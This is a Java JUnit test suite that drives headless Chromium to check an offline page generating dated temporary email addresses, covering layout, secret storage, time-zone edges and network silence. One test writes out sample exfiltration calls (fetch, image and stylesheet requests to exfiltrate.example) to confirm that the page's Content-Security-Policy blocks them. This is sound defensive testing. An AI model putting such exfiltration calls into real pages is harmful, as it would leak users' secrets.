package org.tempmail.page;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.tempmail.address.DatedAddressResolver;
import org.tempmail.config.AddressSettings;
import org.tempmail.config.SchemeName;
import org.tempmail.config.Secret;
import org.tempmail.testsupport.RequiredTool;

/**
 * The page tempmail page writes, in Debian's chromium, headless, driven over the DevTools protocol, with every
 * request it might make sent to a recording proxy. The phone it pretends to be is in another time zone than
 * the owner, as a traveller's is. Chromium's own calls to Google's hosts, should any remain despite the
 * switches that turn them off, are not the page's and are left out of the account.
 */
class OfflinePageBrowserTest {
    private static final String SECRET = "correct horse battery staple, grüße";
    /**
     * Zones a phone abroad may be in: at every moment at least one of them has another date than the owner's
     * zones here (America/Los_Angeles, Europe/Berlin), so that a page that used the phone's zone would show it.
     */
    private static final List<String> PHONE_ZONES = List.of("Pacific/Kiritimati", "Pacific/Pago_Pago");
    private static final AddressSettings HMAC = settings(SchemeName.HMAC_SHA256, 10, 3, "America/Los_Angeles");
    private static final AddressSettings MD5 = settings(SchemeName.MD5, 32, 2, "Europe/Berlin");
    /** Where the phone screenshot goes; docs/mint-page.png is a copy of it. */
    private static final Path SCREENSHOT = Path.of("target", "mint-page.png");

    @TempDir
    static Path work;
    private static RecordingProxy proxy;
    private static HeadlessChromium chromium;
    private static HeadlessChromium.Tab tab;
    private static DevTools page;
    private static Path hmacPage;
    private static Path md5Page;

    @BeforeAll
    static void startChromium() throws Exception {
        RequiredTool.requireExecutable(HeadlessChromium.BINARY.toString(), "chromium");
        hmacPage = write("hmac.html", HMAC);
        md5Page = write("md5.html", MD5);
        proxy = new RecordingProxy();
        chromium = new HeadlessChromium(work.resolve("profile"), proxy.port());
        chromium.awaitDevTools();
    }

    @AfterAll
    static void stopChromium() throws Exception {
        if (chromium != null) {
            chromium.close();
        }
        if (proxy != null) {
            proxy.close();
        }
    }

    @BeforeEach
    void inATabOfItsOwnAsAPhoneAbroad() throws Exception {
        tab = chromium.newTab();
        page = DevTools.connect(tab.endpoint());
        page.send("Page.enable");
        page.send("Network.enable");
        page.send("Emulation.setDeviceMetricsOverride",
                Map.of("width", 390, "height", 844, "deviceScaleFactor", 2, "mobile", true));
        page.send("Emulation.setTimezoneOverride", Map.of("timezoneId", PHONE_ZONES.get(0)));
        open(hmacPage);
        page.evaluate("localStorage.clear()");
        open(hmacPage);
    }

    @AfterEach
    void closeTheTab() throws Exception {
        page.close();
        chromium.closeTab(tab);
    }

    @Test
    void showsTheAddressesTempmailAccepts() throws Exception {
        assertShowsWhatJavaMakes(HMAC, hmacPage);
        assertShowsWhatJavaMakes(MD5, md5Page);
    }

    @Test
    void fitsAPhoneScreen() throws Exception {
        type(SECRET);
        page.waitFor("document.querySelectorAll('#addresses li').length === 3");
        assertEquals(Boolean.TRUE, page.evaluate("document.documentElement.scrollWidth <= innerWidth"),
                "nothing wider than the phone's screen");
        assertEquals(Boolean.TRUE, page.evaluate("[...document.querySelectorAll('.copy')].every(b => "
                + "b.getBoundingClientRect().right <= innerWidth && b.getBoundingClientRect().height >= 36)"),
                "every copy button on the screen and big enough for a thumb");
        page.send("Input.dispatchMouseEvent", Map.of("type", "mouseMoved", "x", 1, "y", 1));
        String png = (String) page.send("Page.captureScreenshot", Map.of("format", "png")).get("data");
        Files.createDirectories(SCREENSHOT.getParent());
        Files.write(SCREENSHOT, Base64.getDecoder().decode(png));
    }

    @Test
    void keepsTheSecretOnlyWhenTickedAndForgetsItWithOneClick() throws Exception {
        type(SECRET);
        page.waitFor("document.querySelectorAll('#addresses li').length === 3");
        assertEquals(0.0, page.evaluate("localStorage.length"), "not ticked: nothing stored");
        open(hmacPage);
        assertEquals("", page.evaluate("document.getElementById('secret').value"), "not ticked: gone on reload");

        type(SECRET);
        click("#remember");
        assertEquals(SECRET, page.evaluate("localStorage.getItem('tempmail-secret@temp.example.org')"));
        open(hmacPage);
        assertEquals(SECRET, page.evaluate("document.getElementById('secret').value"), "ticked: kept");
        assertEquals(Boolean.TRUE, page.evaluate("document.getElementById('remember').checked"));
        page.waitFor("document.querySelectorAll('#addresses li').length === 3");

        click("#forget");
        assertEquals(0.0, page.evaluate("localStorage.length"), "forgotten: nothing stored");
        assertEquals("", page.evaluate("document.getElementById('secret').value"));
        assertEquals(0.0, page.evaluate("document.querySelectorAll('#addresses li').length"));
        open(hmacPage);
        assertEquals("", page.evaluate("document.getElementById('secret').value"), "forgotten: gone on reload");
    }

    @Test
    void makesNoRequestAndMayMakeNone() throws Exception {
        int seen = page.events.size();
        int proxied = proxy.requests().size();
        open(md5Page);
        type(SECRET);
        click("#remember");
        click("#reveal");
        page.waitFor("document.querySelectorAll('#addresses li').length === 2");
        click(".copy");
        click("#forget");
        Thread.sleep(500);
        assertEquals(List.of(), requestsSince(seen, md5Page), "requests the page made besides loading itself");

        // What a script on the page would try, were it changed to send the secret away: the policy stops it.
        int probesSeen = page.events.size();
        assertEquals("refused", page.evaluate("fetch('http://exfiltrate.example/?s=1')"
                + ".then(() => 'sent', () => 'refused')"));
        page.evaluate("new Promise(done => { const image = new Image(); image.onerror = done; image.onload = done; "
                + "image.src = 'http://exfiltrate.example/pixel.png'; setTimeout(done, 2000); })");
        page.evaluate("new Promise(done => { const link = document.createElement('link'); link.rel = 'stylesheet'; "
                + "link.href = 'https://exfiltrate.example/style.css'; link.onerror = done; link.onload = done; "
                + "document.head.append(link); setTimeout(done, 2000); })");
        Thread.sleep(500);
        List<String> probes = requestsSince(probesSeen, md5Page);
        assertEquals(2, probes.size(), "the image and the style sheet were asked for: " + probes);
        assertEquals(probes, blockedByPolicySince(probesSeen), "asked for, and blocked by the page's policy");

        List<String> reachedProxy = proxy.requests().subList(proxied, proxy.requests().size()).stream()
                .filter(request -> !isChromiumsOwn(request)).toList();
        assertEquals(List.of(), reachedProxy, "requests that reached the network");

        // The proxy does see what Chromium does send: without this the two lists above could be empty for
        // want of a working proxy.
        open("http://proxy-check.example/");
        long deadline = System.nanoTime() + 20_000_000_000L;
        while (proxy.requests().stream().noneMatch(r -> r.contains("proxy-check.example"))) {
            assertTrue(System.nanoTime() < deadline, "the proxy saw no request: " + proxy.requests());
            Thread.sleep(50);
        }
    }

    /** Instants either side of the owners' midnights, on the days clocks change among them. */
    static Stream<Arguments> edges() {
        return Stream.of(
                Arguments.of(HMAC, "2026-03-09T06:59:58Z", "2026-03-08"), // the day Los Angeles went to PDT
                Arguments.of(HMAC, "2026-03-09T07:00:00Z", "2026-03-09"),
                Arguments.of(HMAC, "2026-11-02T07:59:58Z", "2026-11-01"), // and its 25-hour day, back to PST
                Arguments.of(HMAC, "2026-11-02T08:00:00Z", "2026-11-02"),
                Arguments.of(MD5, "2026-03-28T23:00:00Z", "2026-03-29"), // Berlin's 23-hour day
                Arguments.of(MD5, "2026-03-29T21:59:58Z", "2026-03-29"),
                Arguments.of(MD5, "2026-10-25T22:59:58Z", "2026-10-25"), // and its 25-hour one
                Arguments.of(MD5, "2026-10-25T23:00:00Z", "2026-10-26"));
    }

    @ParameterizedTest(name = "{1}: the owner''s day is {2}")
    @MethodSource("edges")
    void showsTheAddressesOfTheOwnersDayAtItsEdges(AddressSettings settings, String utc, String ownersDay)
            throws Exception {
        Instant at = Instant.parse(utc);
        assertEquals(LocalDate.parse(ownersDay), LocalDate.ofInstant(at, settings.zone()), "the case's own claim");
        openAt(settings == HMAC ? hmacPage : md5Page, at);
        type(SECRET);
        page.waitFor("document.querySelectorAll('#addresses li').length === " + settings.validDays());
        Instant pageNow = Instant.ofEpochMilli(((Double) page.evaluate("Date.now()")).longValue());
        assertEquals(LocalDate.parse(ownersDay), LocalDate.ofInstant(pageNow, settings.zone()),
                "the page's clock stayed on the day: " + pageNow);
        assertEquals(DatedAddressResolver.from(settings).validAddresses(pageNow), shownAddresses());
        assertEquals(ownersDay, page.evaluate("document.querySelector('#addresses li').dataset.day"));
    }

    @Test
    void movesOnAtTheOwnersMidnightByItself() throws Exception {
        Instant beforeMidnight = Instant.parse("2026-03-09T06:59:50Z");
        openAt(hmacPage, beforeMidnight);
        type(SECRET);
        page.waitFor("document.querySelectorAll('#addresses li').length === 3");
        DatedAddressResolver resolver = DatedAddressResolver.from(HMAC);
        assertEquals(resolver.validAddresses(beforeMidnight), shownAddresses());
        advanceClock(Duration.ofMinutes(1));
        Instant afterMidnight = Instant.ofEpochMilli(((Double) page.evaluate("Date.now()")).longValue());
        assertTrue(afterMidnight.isAfter(Instant.parse("2026-03-09T07:00:00Z")), afterMidnight.toString());
        page.waitFor("document.querySelector('#addresses li').dataset.day === '2026-03-09'");
        assertEquals(resolver.validAddresses(afterMidnight), shownAddresses(), "the new day's, without a touch");
    }

    @Test
    void fromPlainHttpItSaysWhyItCannotWork() throws Exception {
        String url = "http://owner.example/tempmail.html";
        proxy.serve(url, Files.readString(hmacPage, StandardCharsets.UTF_8));
        open(url);
        type(SECRET);
        page.waitFor("!document.getElementById('problem').hidden");
        assertEquals("this browser offers WebCrypto only to pages from https:// or a file",
                page.evaluate("document.getElementById('problem').textContent"));
        assertEquals(0.0, page.evaluate("document.querySelectorAll('#addresses li').length"));
    }

    /** Opens the page with the tab's clock set to {@code at} and standing still, but for the page's loading. */
    private static void openAt(Path file, Instant at) throws Exception {
        page.send("Emulation.setVirtualTimePolicy", Map.of("policy", "pause", "initialVirtualTime",
                at.toEpochMilli() / 1000.0));
        page.send("Page.navigate", Map.of("url", file.toUri().toString()));
        advanceClock(Duration.ofSeconds(1));
        page.waitFor("document.readyState === 'complete'");
    }

    /** Lets the tab's clock run for {@code time} (as fast as the page's timers allow), then stand again. */
    private static void advanceClock(Duration time) throws Exception {
        int seen = page.events.size();
        page.send("Emulation.setVirtualTimePolicy", Map.of("policy", "advance", "budget", time.toMillis()));
        long deadline = System.nanoTime() + 30_000_000_000L;
        while (page.events.subList(seen, page.events.size()).stream()
                .noneMatch(event -> "Emulation.virtualTimeBudgetExpired".equals(event.get("method")))) {
            assertTrue(System.nanoTime() < deadline, "the tab's clock did not run out its budget");
            Thread.sleep(20);
        }
    }

    @SuppressWarnings("unchecked")
    private static List<String> shownAddresses() throws Exception {
        return (List<String>) page.evaluate(
                "[...document.querySelectorAll('#addresses .address')].map(e => e.textContent)");
    }

    private static void assertShowsWhatJavaMakes(AddressSettings settings, Path file) throws Exception {
        String phoneZone = PHONE_ZONES.stream()
                .filter(zone -> !LocalDate.now(ZoneId.of(zone)).equals(LocalDate.now(settings.zone())))
                .findFirst().orElseThrow();
        page.send("Emulation.setTimezoneOverride", Map.of("timezoneId", phoneZone));
        open(file);
        DatedAddressResolver resolver = DatedAddressResolver.from(settings);
        List<String> before = resolver.validAddresses(Instant.now());
        type(SECRET);
        page.waitFor("document.querySelectorAll('#addresses li').length === " + settings.validDays());
        List<String> shown = shownAddresses();
        List<String> after = resolver.validAddresses(Instant.now());
        assertTrue(shown.equals(before) || shown.equals(after), "shown " + shown + ", Java makes " + after
                + " (" + settings.scheme().configName() + ", days in " + settings.zone() + ", the phone in "
                + phoneZone + ")");
        assertEquals("Today", Optional.ofNullable((String) page.evaluate(
                "document.querySelector('#addresses .when').textContent")).orElse("").split(",")[0]);
    }

    /** The URLs the page asked for after {@code seen} events, except the page itself. */
    private static List<String> requestsSince(int seen, Path self) {
        List<String> urls = new ArrayList<>();
        for (Map<?, ?> params : eventsSince(seen, "Network.requestWillBeSent")) {
            String url = (String) ((Map<?, ?>) params.get("request")).get("url");
            if (!url.equals(self.toUri().toString())) {
                urls.add(url);
            }
        }
        return urls;
    }

    /** The URLs of the requests after {@code seen} events that Chromium blocked for the Content-Security-Policy. */
    private static List<String> blockedByPolicySince(int seen) {
        List<Object> blocked = new ArrayList<>();
        for (Map<?, ?> params : eventsSince(seen, "Network.loadingFailed")) {
            if ("csp".equals(params.get("blockedReason"))) {
                blocked.add(params.get("requestId"));
            }
        }
        List<String> urls = new ArrayList<>();
        for (Map<?, ?> params : eventsSince(seen, "Network.requestWillBeSent")) {
            if (blocked.contains(params.get("requestId"))) {
                urls.add((String) ((Map<?, ?>) params.get("request")).get("url"));
            }
        }
        return urls;
    }

    private static List<Map<?, ?>> eventsSince(int seen, String method) {
        return page.events.subList(seen, page.events.size()).stream()
                .filter(event -> method.equals(event.get("method")))
                .<Map<?, ?>>map(event -> (Map<?, ?>) event.get("params")).toList();
    }

    private static boolean isChromiumsOwn(String requestLine) {
        String host = requestLine.split(" ")[1].replaceFirst("^https?://", "").replaceFirst("[:/].*$", "");
        return host.endsWith(".google.com") || host.endsWith(".googleapis.com") || host.endsWith(".gstatic.com")
                || host.endsWith(".gvt1.com") || host.endsWith(".googleusercontent.com");
    }

    private static void open(Path file) throws Exception {
        open(file.toUri().toString());
    }

    /** Navigates and waits for the new document to have loaded (the old one is marked, for a reload). */
    private static void open(String url) throws Exception {
        page.evaluate("document.documentElement.dataset.stale = 'yes'");
        page.send("Page.navigate", Map.of("url", url));
        page.waitFor("document.readyState === 'complete' && document.documentElement.dataset.stale === undefined "
                + "&& location.href === '" + url + "'");
    }

    private static void type(String text) throws Exception {
        page.evaluate("document.getElementById('secret').focus()");
        page.send("Input.insertText", Map.of("text", text));
    }

    /** A click with the mouse, in the middle of the element. */
    private static void click(String selector) throws Exception {
        List<?> middle = (List<?>) page.evaluate("(() => { const r = document.querySelector('" + selector
                + "').getBoundingClientRect(); return [r.x + r.width / 2, r.y + r.height / 2]; })()");
        for (String type : List.of("mousePressed", "mouseReleased")) {
            page.send("Input.dispatchMouseEvent", Map.of("type", type, "x", middle.get(0), "y", middle.get(1),
                    "button", "left", "clickCount", 1));
        }
    }

    private static Path write(String name, AddressSettings settings) throws Exception {
        Path file = work.resolve(name);
        Files.writeString(file, OfflinePage.render(PageSettings.from(settings)), StandardCharsets.UTF_8);
        return file;
    }

    private static AddressSettings settings(SchemeName scheme, int length, int validDays, String zone) {
        return new AddressSettings(scheme, new Secret(SECRET), length, "temp.example.org", "owner@example.org",
                validDays, ZoneId.of(zone), "+");
    }
}
